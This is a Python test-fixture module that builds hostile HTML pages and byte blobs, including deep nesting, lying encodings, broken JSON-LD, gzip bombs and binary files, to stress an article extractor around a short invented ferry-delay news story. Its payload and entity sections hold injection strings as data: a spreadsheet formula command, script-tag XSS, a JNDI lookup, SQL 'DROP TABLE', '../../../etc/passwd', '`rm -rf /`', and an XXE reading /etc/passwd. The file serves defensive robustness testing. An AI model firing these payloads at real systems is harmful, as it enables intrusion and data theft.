"""Pages that want to break a cleaner, made by program, each with what must become of it.

Every case is one story among something hostile. Where a browser would show the story, it must be kept; where the bytes
are no page, the reason is named.
"""

import gzip
import random
import struct
from collections.abc import Iterator
from dataclasses import dataclass

TITLE = "Ferry late again, harbour office silent"
STORY = (
    (
        "The ferry Marguerite left the harbour of Skerrin forty minutes late on Tuesday, for the third time this week, "
        "and the harbour office could not say why."
    ),
    (
        "Passengers waited on the quay in the rain, and two school classes missed the connecting bus to the café and the "
        "museum on the other side of the sound."
    ),
    (
        "The council will discuss the timetable next Thursday – “not before time”, said one of the teachers – when the "
        "operator is expected to answer questions in public."
    ),
)
PARAGRAPHS = "".join(f"<p>{sentence}</p>" for sentence in STORY)
ARTICLE = f"<article><h1>{TITLE}</h1>{PARAGRAPHS}</article>"
RUSSIAN = (
    (
        "Паром Маргарита вышел из гавани во вторник с опозданием на сорок минут, уже третий раз за эту неделю, и "
        "управление порта не смогло назвать причину."
    ),
    (
        "Пассажиры ждали на причале под дождём, а два школьных класса опоздали на автобус, который должен был отвезти их "
        "в музей на другом берегу."
    ),
)
JAPANESE = (
    "フェリー「マルグリット」は火曜日、四十分遅れて港を出た。今週三度目の遅れで、港湾事務所は理由を説明できなかった。",
    "乗客は雨の中、岸壁で待たされ、二つの学校の生徒たちは対岸の博物館へ向かうバスに乗り遅れた。",
)
CHINESE = (
    "渡轮“玛格丽特号”星期二晚点四十分钟才离开港口，这已经是本周第三次，港务处无法说明原因。",
    "乘客们冒雨在码头等候，两个班的学生错过了开往对岸博物馆的班车，老师们对此十分不满。",
)
TRADITIONAL = (
    "渡輪「瑪麗號」星期二晚了四十分鐘才離開港口,這已經是本週第三次,港務處說不出原因。",
    "乘客在雨中的碼頭等候,兩班學生錯過了開往對岸博物館的巴士,老師十分不滿。",
)


@dataclass(frozen=True)
class Case:
    """One page and what must become of it."""

    name: str
    body: bytes
    keep: tuple[str, ...] = STORY
    """Sentences that must stand in the article's text; none: the page may be rejected."""
    reasons: frozenset[str] = frozenset()
    """The rejections allowed; with sentences to keep there are none."""
    media_type: str = "text/html"
    url: str = "https://harbourpost.example/news/1.html"


def page(body: str = ARTICLE, head: str = "", attributes: str = "") -> str:
    return f"<!doctype html><html><head><title>{TITLE}</title>{head}</head><body{attributes}>{body}</body></html>"


def html(name: str, text: str, **more: object) -> Case:
    return Case(name, text.encode("utf-8", "surrogatepass"), **more)


def refused(name: str, body: bytes, *reasons: str, **more: str) -> Case:
    return Case(name, body, (), frozenset(reasons), **more)


def depth() -> Iterator[Case]:
    """Nesting, closed and not, around the story and beside it."""
    for tag in ("span", "div", "b", "font", "a", "section", "blockquote", "table", "ul", "object", "em"):
        deep = 3000
        yield html(f"{deep} {tag} unclosed before", page(f"<{tag}>" * deep + f"</{tag}>" * deep + ARTICLE))
        yield html(f"{deep} {tag} after", page(ARTICLE + f"<{tag}>" * deep + "x" + f"</{tag}>" * deep))
    for tag in ("div", "span", "font", "section"):
        yield html(f"5000 {tag} around", page(f"<{tag}>" * 5000 + ARTICLE + f"</{tag}>" * 5000))
    for tag in ("div", "span", "b"):
        yield html(f"100000 {tag} never closed, after", page(ARTICLE + f"<{tag}>" * 100_000))
        yield html(f"100000 {tag} around", page(f"<{tag}>" * 100_000 + ARTICLE))
    yield html("100000 closing tags of nothing", page("</div></span></b>" * 30_000 + ARTICLE))
    yield html("50000 nested svg", page("<svg>" * 50_000 + "</svg>" * 50_000 + ARTICLE))
    yield html("20000 blockquotes", page("<blockquote>" * 20_000 + "</blockquote>" * 20_000 + ARTICLE))
    words = "<blockquote>The old timetable is printed here once more.</blockquote>"
    yield html("8000 blockquotes with text", page(ARTICLE + words * 8000))
    spans = "".join(f"<p>{'<span>' * 5000}{sentence}{'</span>' * 5000}</p>" for sentence in STORY)
    yield html("5000 spans in each paragraph", page(f"<article><h1>{TITLE}</h1>{spans}</article>"))
    yield html("misnested", page("<b><i><u>" * 300 + ARTICLE.replace("<p>", "<p></i></b><b><i>")))


def attributes() -> Iterator[Case]:
    """Tags with more in them than tags have."""
    many = " ".join(f"a{number}=v" for number in range(50_000))
    for tag in ("p", "div", "meta", "img"):
        yield html(f"50000 attributes on {tag}", page(f"<{tag} {many}>{ARTICLE}"))
    yield html("50000 attributes on body", page(attributes=f" {many}"))
    yield html(
        "50000 attributes without values", page(f"<div {' '.join(f'a{n}' for n in range(50_000))}>{ARTICLE}</div>")
    )
    yield html("one attribute 50000 times", page(f"<div {'class=x ' * 50_000}>{ARTICLE}</div>"))
    for name in ("class", "id", "style", "data-x", "href"):
        yield html(f"{name} of a megabyte", page(f"<div {name}='{'x y ' * 250_000}'>{ARTICLE}</div>"))
    yield html(
        "class of 100000 names", page(f'<div class="{" ".join(f"c{n}" for n in range(100_000))}">{ARTICLE}</div>')
    )
    for word in ("img", "media", "comment", "author", "related", "publi"):
        glued = word * 60_000
        yield html(
            f"60000 times {word}",
            page(f"<div class='{glued}'>{ARTICLE}</div>", f"<meta name='{glued}' content='2010'>"),
        )
    yield html("attribute name of a megabyte", page(f"<div {'x' * 1_000_000}=1>{ARTICLE}</div>"))
    yield html("tag name of a megabyte", page(f"<{'x' * 1_000_000}>{ARTICLE}"))
    yield html("quote never closed, after", page(ARTICLE + '<a href="'))
    yield html("quotes within quotes", page(ARTICLE.replace("<p>", "<p title='\"' data-a=\"'\" '\"x>")))
    yield html("equals signs", page(f"<div {'=' * 100_000}>{ARTICLE}</div>"))
    yield html("slashes", page(f"<div {'/' * 100_000}>{ARTICLE}</div>"))
    yield html("angle brackets", page("<" * 100_000 + " " + ARTICLE))
    yield html("closing brackets", page(">" * 100_000 + ARTICLE))


def siblings() -> Iterator[Case]:
    """Very many of one thing."""
    for tag in ("br", "img", "hr", "input", "wbr", "meta", "link", "script></script", "style></style", "i></i"):
        yield html(f"50000 {tag} after", page(ARTICLE + f"<{tag}>" * 50_000))
    for tag in ("p", "li", "td", "a href=/x", "div", "option", "time", "h1"):
        yield html(f"10000 {tag} after", page(ARTICLE + f"<{tag}>x" * 10_000))
    yield html("60000 p", page(ARTICLE + "<p>x" * 60_000))
    yield html("20000 comments", page("<!-- x -->" * 20_000 + ARTICLE))
    yield html("20000 JSON-LD blocks", page(head='<script type="application/ld+json">{}</script>' * 20_000))
    yield html("20000 titles", page(head="<title>x</title>" * 20_000))
    yield html("5000 dates", page(ARTICLE + "<p>2 December 2010 11:15 IST</p>" * 5000))
    yield html("5000 bylines", page(ARTICLE + '<p class="byline">By Ann Miller</p>' * 5000))
    yield html("5000 cable ids", page(ARTICLE + "<p>08MUMBAI550</p>" * 5000))
    lines = (f"The boats 08 ab{number} and 09 cd{number} left late." for number in range(100_000))
    yield html("200000 beginnings of cable ids in one text", page(f"{ARTICLE}<p>{' '.join(lines)}"))
    yield html("2000 rel=author links", page(ARTICLE + '<a rel="author">Ann Miller</a>' * 2000))
    yield html("one table of 10000 cells", page(ARTICLE + f"<table><tr>{'<td>7' * 10_000}</table>"))
    yield html("5000 tables", page(ARTICLE + "<table><tr><td>7</table>" * 5000))


def encodings() -> Iterator[Case]:
    """Declarations that lie, and encodings without one."""
    text = page()
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig"):
        yield Case(f"{codec} undeclared", text.encode(codec))
        yield Case(f"{codec} declared as latin-1", text.encode(codec), media_type="text/html; charset=iso-8859-1")
    for label in (
        "utf-16",
        "utf-7",
        "x-nonsense",
        "iso-8859-1",
        "gbk",
        "shift_jis",
        "ibm037",
        "\u00fc",
        "x" * 5000,
        "''",
    ):
        head = f'<meta charset="{label}">'
        yield Case(f"utf-8 declared as {label[:12]}", page(head=head).encode())
    for label in ("utf-16", "", "=", ";;", "utf-8; charset=gbk", "\x00", "iso-2022-jp-ext", "hex", "rot13", "idna"):
        yield Case(f"utf-8 under charset={label!r}", text.encode(), media_type=f"text/html; charset={label}")
    for label in ("utf-8", "ascii", "utf-16"):
        body = page(head=f'<meta charset="{label}">').encode("cp1252")
        yield Case(f"windows-1252 declared as {label}", body)
    yield Case("windows-1252 undeclared", text.encode("cp1252"))
    for codec, label, story in (
        ("cp1251", "windows-1251", RUSSIAN),
        ("koi8-r", "koi8-r", RUSSIAN),
        ("iso8859-5", "iso-8859-5", RUSSIAN),
        ("shift_jis", "shift_jis", JAPANESE),
        ("euc_jp", "euc-jp", JAPANESE),
        ("iso2022_jp", "iso-2022-jp", JAPANESE),
        ("gb18030", "gb2312", CHINESE),
        ("big5", "big5", TRADITIONAL),
    ):
        paragraphs = "".join(f"<p>{sentence}</p>" for sentence in story)
        for head, media_type in ((f'<meta charset="{label}">', "text/html"), ("", f"text/html; charset={label}")):
            body = page(f"<article><h1>{story[0][:12]}</h1>{paragraphs}</article>", head).encode(codec)
            yield Case(f"{codec} by {'page' if head else 'transport'}", body, story, media_type=media_type)
    late = "<!--" + "x" * 3000 + "-->" + '<meta charset="windows-1251">'
    body = page("".join(f"<p>{sentence}</p>" for sentence in RUSSIAN), late).encode("cp1251")
    yield Case("declaration behind a long comment", body, RUSSIAN)
    yield Case(
        "one broken byte in utf-8",
        text.replace("</article>", "<p>caf\udce9</p></article>").encode("utf-8", "surrogateescape"),
    )
    yield Case("overlong and surrogate sequences", text.encode().replace(b"</h1>", b"</h1><p>\xc0\xaf\xed\xa0\x80</p>"))
    yield Case("zero bytes strewn in", text.encode().replace(b"<p>", b"\0<p>\0"))
    yield Case("byte order mark inside", text.replace("<p>", "\ufeff<p>").encode())
    yield Case("two byte order marks", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode())


def entities() -> Iterator[Case]:
    """Character references that are none."""
    odd = ("&#x110000;", "&#0;", "&#xD800;", "&#99999999999999999999;", "&#x;", "&#;", "&", "&;", "&amp;amp;amp;", "&#128;",
           "&nosuchentity;", "&ampnosemicolon", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#xfffe;&#xffff;", "&#27;[31m")  # fmt: skip
    for reference in odd:
        yield html(f"reference {reference[:16]}", page(ARTICLE.replace("</h1>", f"</h1><p>{reference}</p>")))
    yield html("100000 references", page(ARTICLE + f"<p>{'&nbsp;&#x2014;' * 50_000}</p>"))
    yield html("100000 ampersands", page(ARTICLE + f"<p>{'&' * 100_000}</p>"))
    laughs = '<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
    yield html("nested entity declarations", laughs + page(ARTICLE + "<p>&c;</p>"))
    yield html(
        "external entity", '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + page(ARTICLE + "<p>&x;</p>")
    )


def text_nodes() -> Iterator[Case]:
    """Single texts of megabytes."""
    for name, text in (
        ("a word", "x" * 2_000_000),
        ("words", "word " * 400_000),
        ("spaces", " " * 2_000_000),
        ("line breaks", "\n" * 2_000_000),
        ("zero-width spaces", "\u200b" * 500_000),
        ("combining marks", "e" + "\u0301" * 500_000),
        ("right-to-left marks", "\u202e" * 500_000),
        ("emoji joiners", "\U0001f468\u200d" * 200_000),
        ("digits", "1" * 1_000_000),
        ("dots", "." * 1_000_000),
        ("quotes", "'\"" * 500_000),
        ("slashes", "/" * 1_000_000),
        ("at signs", "a@" * 300_000),
        ("capitals", "AB " * 300_000),
        ("names", "By Ann Miller and " * 50_000),
        ("dates", "2 December 2010, " * 50_000),
        ("addresses", "https://a.example/ " * 50_000),
        ("open brackets", "([{" * 200_000),
    ):
        yield html(f"a paragraph of {name}", page(ARTICLE + f"<p>{text}</p>"))
        if name in ("a word", "words", "digits", "quotes", "names", "dates"):
            yield html(f"a title of {name}", page(head=f"<title>{text}</title>"))
            yield html(f"a byline of {name}", page(f'<p class="byline">{text}</p>{ARTICLE}'))
    yield html("a comment of 5 MB", page(f"<!--{'x' * 5_000_000}-->" + ARTICLE))
    yield html("a script of 5 MB", page(f"<script>{'x' * 5_000_000}</script>" + ARTICLE))
    yield html("a data address of 5 MB", page(f'<img src="data:image/png;base64,{"A" * 5_000_000}">' + ARTICLE))


BROKEN_JSON = (
    "null", "[]", "{", "}", "[null]", '"text"', "1e999", "NaN", "-Infinity", "[" * 100_000, '{"a":' * 50_000,
    '{"@type":null}', '{"@type":["NewsArticle",null,7]}', '{"@graph":null}', '{"@graph":[null,[],{"@graph":{}}]}',
    '{"@type":"NewsArticle","headline":null,"author":null,"datePublished":null}',
    '{"@type":"NewsArticle","headline":["a",{"b":1}],"author":{"name":{"name":7}}}',
    '{"@type":"NewsArticle","author":[[[[["Ann Miller"]]]]]}',
    '{"@type":"NewsArticle","headline":"\\ud800","author":"\\udfff\\ud800"}',
    '{"@type":"NewsArticle","headline":"\\u0000\\u001b[31m"}',
    '{"@type":"NewsArticle","headline":7,"author":true,"publisher":false,"inLanguage":[]}',
    '{"@type":"NewsArticle","articleBody":null,"isAccessibleForFree":{"a":1},"hasPart":7}',
    '{"@type":"NewsArticle","mainEntityOfPage":["http://["],"url":"http://[::1","@id":{}}',
    '{"@type":"NewsArticle","publisher":{"@type":"Organization","name":["x"],"logo":null}}',
    '{"@type":"NewsArticle","headline":"a" "author":"b"}', '{"@type":"NewsArticle","headline":"a\nb"}',
    "<!-- {} -->", "<![CDATA[{}]]>", "&quot;{}&quot;", '{"a":1}{"b":2}', "9" * 10_000,
    "{" + "-->" * 1_000 + "\n" * 100_000 + "}", "{" + "]]> ; " * 20_000 + "}",
    '[{"@type":"Article","url":"' + "?" * 100_000 + '\\n"},{"@type":"Article","headline":"a"}]',
)  # fmt: skip
BAD_DATES = (
    "2010-12-02T10:00:00+99:99", "0000-00-00", "9999-12-31T23:59:59Z", "99999-01-01", "2010-13-45", "-1", "1e400",
    "9" * 5000, "2010-02-30", "2010-12-02T25:61:61", "2010-12-02T10:00:00+24:00", "12/12/12/12/12", "٢٠١٠-١٢-٠٢",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2010-W53-9", "\x00", "now", "1291248000000000", "null",
)  # fmt: skip
BAD_ADDRESSES = (
    "http://[", "http://[::1", "javascript:alert(1)", "data:text/html,x", "http://a.example:99999999/", "//", "http://",
    "http://\x00/", "http://a.example/%", "http://" + "a" * 300 + ".example/", "http://xn--a.example/", "ftp://x/",
    "http://a.example/" + "a/" * 100_000, "http://user:pass@a.example/", "\u202ehttp://a.example/", "http://a..example/",
    "https://web.archive.org/web/99999999999999/http://a.example/", "http://１２７.0.0.1/", "C:\\x\\y", " http://a.example/\n",
)  # fmt: skip


def metadata() -> Iterator[Case]:
    """What a page says of itself, wrong in every place that is read."""
    for number, block in enumerate(BROKEN_JSON):
        yield html(f"JSON-LD {number}: {block[:30]}", page(head=f'<script type="application/ld+json">{block}</script>'))
    for stamp in BAD_DATES:
        names = ("article:published_time", "date", "article:modified_time", "DC.date.issued")
        head = "".join(f'<meta property="{name}" content="{stamp}">' for name in names)
        block = f'<script type="application/ld+json">{{"@type":"NewsArticle","datePublished":"{stamp}"}}</script>'
        times = f'<time datetime="{stamp}">{stamp[:100]}</time><p class="date">Published: {stamp[:100]}</p>'
        yield html(f"date {stamp[:30]!r}", page(ARTICLE.replace("</h1>", f"</h1>{times}"), head + block))
    for address in BAD_ADDRESSES:
        head = f'<link rel="canonical" href="{address}"><meta property="og:url" content="{address}"><base href="{address}">'
        yield html(f"address {address[:30]!r}", page(head=head), url=address)
    for language in ("", "x" * 10_000, "en-US-x-\u00fc", "\x00", "zz", "../..", "de" * 1000):
        yield html(f"language {language[:12]!r}", page().replace("<html>", f'<html lang="{language}">'))


def soup() -> Iterator[Case]:
    """Markup that no writer meant."""
    after = {
        "comment never closed": "<!-- ",
        "script never closed": "<script>var a = 1;",
        "style never closed": "<style>p {",
        "textarea never closed": "<textarea>",
        "select never closed": "<select><option>",
        "CDATA": "<![CDATA[ x ]]>",
        "processing instruction": "<?php echo 1 ?>",
        "plaintext": "<plaintext>",
        "tag cut off": "<div class=",
        "second document": page("<p>x</p>"),
        "frameset": "<frameset><frame src=x></frameset>",
    }
    for name, tail in after.items():
        yield html(f"{name}, after", f"<!doctype html><html><head><title>{TITLE}</title></head><body>{ARTICLE}{tail}")
    around = {
        "no head": "{}", "no body": "<html>{}", "body twice": "<body><body class=x>{}", "form": "<form>{}</form>",
        "table": "<table><tr><td>{}</td></tr></table>", "definition list": "<dl><dd>{}</dd></dl>", "center": "<center>{}",
        "custom element": "<x-story>{}</x-story>", "fieldset": "<fieldset>{}</fieldset>", "label": "<label>{}</label>",
        "details": "<details open>{}</details>", "list item": "<ul><li>{}</li></ul>", "main": "<main>{}</main>",
        "upper case": "<DIV><MAIN>{}</MAIN></DIV>", "xhtml": '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{}',
        "leading space": "\n \t" * 1000 + "<html><body>{}", "leading comment": "<!-- " + "x" * 5000 + " --><html><body>{}",
        "table never closed": "<table><tr><td>{}", "link never closed before": "<a href=/x></a>{}",
        "noscript beside": "<noscript><p>Turn scripts on.</p></noscript>{}", "conditional comment": "<!--[if IE]>x<![endif]-->{}",
        "template beside": "<template><p>x</p></template>{}", "iframe beside": "<iframe srcdoc='<p>x'></iframe>{}",
        "svg beside": "<svg><title>x</title><text>y</text></svg>{}", "math beside": "<math><mi>x</mi></math>{}",
        "closed body first": "<body></body></html>{}", "doctype of 100 kB": f"<!doctype html {'x' * 100_000}>{{}}",
    }  # fmt: skip
    for name, frame in around.items():
        yield html(name, frame.replace("{}", ARTICLE))
    yield html("no markup but line breaks", page("<br><br>".join((TITLE, *STORY))))
    yield html("paragraphs never closed", page(f"<h1>{TITLE}</h1>" + "".join(f"<p>{sentence}" for sentence in STORY)))
    yield html("every word in a span", page(ARTICLE.replace(" ", " <span></span>")))
    yield html("soft hyphens and joiners", page(ARTICLE).replace("school", "sch\u00adool"), keep=STORY[:1])
    yield html("carriage returns", page(ARTICLE).replace(" the ", "\r\nthe\r"))
    yield html("form feeds and tabs", page(ARTICLE).replace(" the ", "\f\tthe\v"))


def payloads() -> Iterator[Case]:
    """Words that harm whoever prints, loads or shows them; they are words here."""
    words = (
        '=cmd|"/c calc"!A1', "+1+1", "@SUM(A1)", "</script><script>alert(1)</script>", "${jndi:ldap://a.example/x}", "{{7*7}}",
        "'; DROP TABLE articles;--", "../../../etc/passwd", "\x1b[2J\x1b[31m", "\u202egnp.exe", "---\nyaml: [", "`rm -rf /`",
        "%s%s%n", "\x00", "<!--#exec cmd=ls-->", "[x](javascript:alert(1))", "| a | b |\n|---|", "\ud83d", "[/bold][red]",
    )  # fmt: skip
    for word in words:
        quoted = word.replace("<", "&lt;").replace('"', "&quot;")
        head = f'<meta property="og:title" content="{quoted}"><meta name="author" content="{quoted}">'
        text = ARTICLE.replace("</h1>", f" {quoted}</h1><p class=byline>By {quoted}</p>")
        yield html(f"words {word[:20]!r}", page(text, head))


def binaries() -> Iterator[Case]:
    """Bytes that are no page."""
    noise = random.Random(7).randbytes(300_000)
    for name, start in (
        ("PDF", b"%PDF-1.4\n"), ("PNG", b"\x89PNG\r\n\x1a\n"), ("JPEG", b"\xff\xd8\xff\xe0"), ("GIF", b"GIF89a"), ("ZIP", b"PK\3\4"),
        ("gzip", b"\x1f\x8b\x08"), ("ELF", b"\x7fELF"), ("MP3", b"ID3"), ("font", b"wOF2"), ("Windows program", b"MZ\x90\0"),
        ("SQLite", b"SQLite format 3\0"), ("noise", b""), ("class file", b"\xca\xfe\xba\xbe"), ("MP4", b"\0\0\0\x18ftypmp42"),
    ):  # fmt: skip
        yield refused(f"binary: {name}", start + noise, "binary")
    yield refused("zero bytes", b"\0" * 1_000_000, "empty", "binary")
    yield refused("nothing", b"", "empty")
    yield refused("white space", b" \r\n\t" * 10_000, "empty")
    yield refused("a bomb", gzip.compress(b"\0" * 10_000_000), "binary")
    yield refused("21 MB", b"<p>x</p>" * 2_700_000, "too_large")
    yield refused("floats", struct.pack("<50000d", *map(float, range(50_000))), "binary")
    for name, body in (
        ("feed", b"<?xml version='1.0'?><rss><channel><item><title>x</title></item></channel></rss>"),
        ("site map", b"<?xml version='1.0'?><urlset><url><loc>http://a.example/</loc></url></urlset>"),
        ("drawing", b"<svg xmlns='http://www.w3.org/2000/svg'><text>x</text></svg>"),
    ):
        yield refused(f"text of another kind: {name}", body, "media_type", media_type="")
    for media_type in ("text/css", "application/javascript", "application/json", "image/png"):
        yield refused(f"declared {media_type}", b"body { color: red } " * 50, "media_type", media_type=media_type)
    for name, body in (
        ("only tags", b"<div></div>" * 1000), ("only an html element", b"<html></html>"), ("one letter", b"x"), ("one bracket", b"<"),
        ("scripts only", b"<html><script>var a='%s'</script></html>" % (b"x" * 100_000)), ("replacement characters", "\ufffd".encode() * 1000),
        ("surrogates", b"\xed\xa0\x80" * 1000), ("control characters", bytes(range(1, 32)) * 1000),
    ):  # fmt: skip
        yield refused(name, body, "empty", "binary", "no_article", "listing", "error_page")


def dumps() -> Iterator[Case]:
    """Flattened text."""
    text = "\n\n".join((TITLE, *STORY))
    for name, body in (
        ("carriage returns only", text.replace("\n", "\r")),
        ("line separators", text.replace("\n\n", "\u2028\u2028")),
        ("next-line characters", text.replace("\n\n", "\x85\x85")),
        ("30000 short lines after", text + "\n\nx" * 30_000),
        ("100000 empty lines", text.replace("\n\n", "\n" * 100_000)),
        ("a line of 2 MB after", text + "\n\n" + "x" * 2_000_000),
        ("words of 2 MB after", text + "\n\n" + "word " * 400_000),
        ("angle brackets", text + "\n\n" + "<" * 100_000),
        ("zero bytes", text.replace("\n\n", "\n\0\n")),
        ("escape sequences", text.replace("\n\n", "\n\n\x1b[31m\n\n")),
        ("5000 copies of a menu", "Home\nNews\nSport\n" * 5000 + "\n" + text),
    ):
        yield Case(f"dump: {name}", body.encode(), media_type="text/plain")


def cases() -> list[Case]:
    """Return every case; names are unique."""
    families = (depth, attributes, siblings, encodings, entities, text_nodes, metadata, soup, payloads, binaries, dumps)
    return [case for family in families for case in family()]
